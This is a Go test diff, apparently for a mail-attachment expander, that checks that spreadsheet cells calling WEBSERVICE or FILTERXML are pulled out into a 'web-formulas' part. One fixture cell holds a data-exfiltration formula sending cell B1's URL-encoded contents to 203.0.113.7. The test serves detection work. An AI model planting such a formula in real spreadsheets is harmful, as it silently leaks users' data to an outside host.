@@ -200,3 +200,29 @@ func TestXLSVirtualPath(t *testing.T) {
 		}
 	}
 }
+
+// TestXLSWebFormulasWrittenByLibreOffice: LibreOffice writes WEBSERVICE and
+// FILTERXML into an .xls as Excel does, future functions kept as hidden
+// names (_xlfn.WEBSERVICE) that the cells call; the cells that call one
+// come out decompiled as the member web-formulas, the others do not.
+func TestXLSWebFormulasWrittenByLibreOffice(t *testing.T) {
+	cell := func(f string) string {
+		return `<table:table-row><table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>`
+	}
+	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Rates">`+
+		cell(`COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`)+
+		cell(`SUM(1;2)`)+
+		cell(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;);&quot;//title&quot;)`)+
+		`</table:table></office:spreadsheet></office:body>`)
+	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"rates.fods": []byte(fods)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := mail("rates", "see attached", "rates.xls", out["rates.fods"])
+	expand(t, m, Options{})
+	want := "Rates!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n" +
+		"Rates!R3C1: =_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"https://feed.example.net/a.xml\"),\"//title\")\n"
+	if got := string(mustPart(t, m, "2/rates.xls/web-formulas").Content); got != want {
+		t.Errorf("web-formulas = %q, want %q", got, want)
+	}
+}
